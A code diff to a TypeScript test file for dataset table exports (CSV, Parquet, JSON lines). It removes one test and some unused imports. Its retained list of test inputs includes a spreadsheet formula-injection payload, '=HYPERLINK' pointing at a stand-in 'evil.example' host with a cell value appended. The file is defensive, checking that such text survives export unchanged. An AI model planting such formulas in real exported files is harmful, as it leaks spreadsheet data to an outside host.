@@ -1,9 +1,6 @@
-import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
-import path from "node:path";
 import { parse } from "csv-parse/sync";
 import { parquetReadObjects } from "hyparquet";
-import { expect, it, onTestFinished } from "vitest";
+import { expect, it } from "vitest";
 import {
   exactText,
   fieldColumns,
@@ -12,7 +9,6 @@ import {
   toParquet,
   toTable,
 } from "../../src/datasets/release/tables.js";
-import { readTable } from "../../src/research/ambik/table.js";
 
 const formulas = [
   '=HYPERLINK("http://evil.example?"&A1)',
@@ -67,22 +63,4 @@ it("keeps the exact text in Parquet and in JSON lines", async () => {
   expect(parquet).toEqual(rows);
   const lines = toJsonLines(rows).trimEnd().split("\n");
   expect(lines.map((line) => JSON.parse(line))).toEqual(rows);
-});
-
-it("is read by the reader of AmbiK's columns as it was written", () => {
-  const folder = mkdtempSync(path.join(tmpdir(), "sous-tables-"));
-  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
-  const file = path.join(folder, "rows.csv");
-  // The reader turns line ends into line feeds.
-  const texts = formulas.filter((text) => !text.includes("\r"));
-  writeFileSync(
-    file,
-    toCsv(
-      toTable(
-        fieldColumns("STRING", "answer"),
-        texts.map((answer) => ({ answer })),
-      ),
-    ),
-  );
-  expect(readTable(file, ["answer"]).map(({ cells }) => cells.answer)).toEqual(texts);
 });
